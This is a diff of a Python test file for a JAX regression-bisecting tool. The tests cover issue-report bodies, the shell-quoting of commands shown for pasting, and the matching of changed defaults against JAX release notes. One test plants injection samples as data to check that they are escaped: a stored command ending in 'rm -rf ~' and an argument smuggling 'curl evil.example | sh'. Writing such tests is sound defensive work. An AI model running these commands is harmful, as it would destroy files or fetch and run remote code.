@@ -62,7 +62,7 @@ def test_an_answer_is_stored_once_listed_reported_and_pushed(store, tmp_path):
     assert json.loads(out)["answers"][0]["answer_id"] == answer_id
 
     data = issue_data("small", store=str(store))
-    assert data["title"].endswith("; first bad release 0.5.0 (lowering)"), data["title"]
+    assert data["title"].endswith("from jax 0.5.0 (last good 0.4.38; JAX's lowering)"), data["title"]
     body = issue_markdown(data)
     assert "### Which release, which layer" in body and "**First bad release: jax 0.5.0**" in body
     assert "<img" not in body and "\\*\\*bold\\*\\*" in body and "\\[link\\]" in body  # the record's text escaped
@@ -209,18 +209,17 @@ def test_the_command_shown_for_pasting_is_rebuilt_from_the_record_and_quoted(sto
     record = explanation_answer(bundle, explained, "reprobundle explain small && rm -rf ~", "20261205T000000-00000002")
     registry.put_answer(record)
 
-    body = issue_markdown(issue_data("small", store=str(store)))
-    assert "rm -rf" not in body
+    data = issue_data("small", store=str(store))
+    body = issue_markdown(data)
+    assert "rm -rf" not in body and "reprobundle bisect" not in body  # a stored command never reaches the body
     bisect = asked_again(hostile, "small@1")
     assert shlex.split(bisect) == ["reprobundle", "bisect", "small@1", "--good", "0.4.38", "--bad",
                                    "0.5.1; curl evil.example | sh", "--retrace"]
     explain = asked_again(record, "small@1")
     assert shlex.split(explain) == ["reprobundle", "explain", "small@1", "--jax", "0.4.31", "--variant",
                                     "0.4.33:XLA_FLAGS=--xla_cpu_use_thunk_runtime=false", "--frozen", "--by", "time"]
-    # the rebuilt commands are the ones the body shows (its Markdown escapes | and _)
-    assert "asked again with `reprobundle bisect small@1 --good 0.4.38 --bad '0.5.1; curl evil.example \\| sh' " \
-           "--retrace`" in body
-    assert "asked again with `reprobundle explain small@1 --jax 0.4.31 --variant 0.4.33:XLA\\_FLAGS=" in body
+    # the rebuilt commands are the ones the reporter's terminal shows (of the ref as the reporter named it)
+    assert data["asked_again"] == [asked_again(hostile, "small"), asked_again(record, "small")]
 
 
 def test_url_replays_the_releases_of_the_stored_answer(store):
@@ -261,3 +260,92 @@ def test_explain_and_minimize_take_the_stored_answers_last_good_and_first_bad(st
     assert answered_pair(registry, bundle) == []
     store_bisection(registry, bundle, _answered(), "reprobundle bisect small --good 0.4.38 --bad 0.5.1")
     assert answered_pair(registry, bundle) == ["0.4.38", "0.5.0"]
+
+
+CHANGELOG = """# Change log
+
+## jax 0.5.1 (Feb 24, 2025)
+
+* Changes:
+  * Something else entirely.
+
+## jax 0.5.0 (Jan 17, 2025)
+
+* Breaking changes
+  * Enable `jax_threefry_partitionable` by default (see
+    [the update note](https://github.com/jax-ml/jax/discussions/18480)).
+
+* Changes:
+  * {func}`jax.numpy.einsum` now defaults to `optimize='auto'`.
+
+## jaxlib 0.5.0 (Jan 17, 2025)
+
+* The CPU runtime uses `xla_cpu_use_thunk_runtime` by default.
+
+## jax 0.4.38 (Dec 17, 2024)
+
+* Mentions `jax_threefry_partitionable` too, in another release.
+"""
+
+
+def _jax_repo(tmp_path, changelog: str):
+    """A git repository holding CHANGELOG.md at the tag jax-v0.5.0 (as JAX's own repository tags its releases)."""
+    import subprocess
+
+    repo = tmp_path / "jax"
+    repo.mkdir(parents=True)
+    (repo / "CHANGELOG.md").write_text(changelog)
+    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
+    for args in (["init", "-q"], ["add", "CHANGELOG.md"], ["commit", "-qm", "notes"], ["tag", "jax-v0.5.0"]):
+        subprocess.run(git + args if args[0] != "init" else ["git", "-C", str(repo), *args], check=True)
+    return repo
+
+
+def test_a_changed_default_is_said_documented_where_the_release_notes_name_it(store, tmp_path):
+    """explain found the default of jax_threefry_partitionable changed at 0.5.0: the 0.5.0 section of JAX's
+    CHANGELOG.md (at the tag, from a repository made here) names it, so the first lines quote the entry; a
+    repository whose notes do not name it, or none, adds nothing."""
+    from reprobundle.investigate.answers import store_explanation
+
+    registry = Registry.open(store)
+    bundle = registry.resolve("small@1")
+    said = _explained("the default of jax_threefry_partitionable changed from False (jax 0.4.38) to True (jax 0.5.0)")
+    said["diagnosis"]["default"] = {"kind": "option", "name": "jax_threefry_partitionable", "a": False, "b": True,
+                                    "baseline": "0.4.38", "candidate": "0.5.0", "type": "bool"}
+    store_explanation(registry, bundle, said, "reprobundle explain small")
+    repo = _jax_repo(tmp_path, CHANGELOG)
+    code, out, err = cli("issue", "small", "--jax-repo", str(repo), "--json", store=store)
+    assert code == 0, err
+    data = json.loads(out)
+    assert data["documented"] == ["documented in the 0.5.0 release notes: Enable `jax_threefry_partitionable` by "
+                                  "default (see the update note)."]
+    first = "\n".join(data["body"].splitlines()[:30])
+    assert "**Documented as intended:** documented in the 0.5.0 release notes: Enable \\`jax\\_threefry" in first
+    other = _jax_repo(tmp_path / "other", CHANGELOG.replace("jax_threefry_partitionable", "something_else"))
+    code, out, err = cli("issue", "small", "--jax-repo", str(other), "--json", store=store)
+    assert code == 0 and json.loads(out)["documented"] == [] and "Documented" not in json.loads(out)["body"], err
+    code, out, err = cli("issue", "small", "--jax-repo", str(tmp_path / "nowhere"), "--json", store=store)
+    assert code == 0 and json.loads(out)["documented"] == [], err
+
+
+def test_the_release_notes_sections_and_entries():
+    from reprobundle.investigate.release_notes import entries, naming, release_sections
+
+    section = release_sections(CHANGELOG, "0.5.0")
+    assert "Something else" not in section and "another release" not in section
+    items = entries(section)
+    assert "`jax.numpy.einsum` now defaults to `optimize='auto'`." in items  # {func} role dropped
+    assert naming(items, ["--xla_cpu_use_thunk_runtime"]) == ["The CPU runtime uses `xla_cpu_use_thunk_runtime` by "
+                                                              "default."]  # the jaxlib section too
+    assert naming(items, ["einsum"]) == [] and naming(items, ["jax.numpy.einsum"]) == [
+        "`jax.numpy.einsum` now defaults to `optimize='auto'`."]
+
+
+def test_the_functions_called_on_a_changed_line_by_their_full_names():
+    from reprobundle.investigate.release_notes import called_names
+
+    program = ("import jax\nimport jax.numpy as jnp\nfrom jax.scipy.special import gamma as g\n\n\n"
+               "def f(x):\n    return jax.jit(lambda y: g(jnp.sin(y)) + jax.lax.cumsum(y))(x)\n")
+    assert called_names({"pkg/prog.py": program}, "+2 convert at prog.py:7; -1 add at prog.py:7; x at prog.py:99") == [
+        "jax.scipy.special.gamma", "jax.numpy.sin", "jax.lax.cumsum"]
+    assert called_names({"prog.py": "def f(:\n"}, "+1 add at prog.py:1") == []
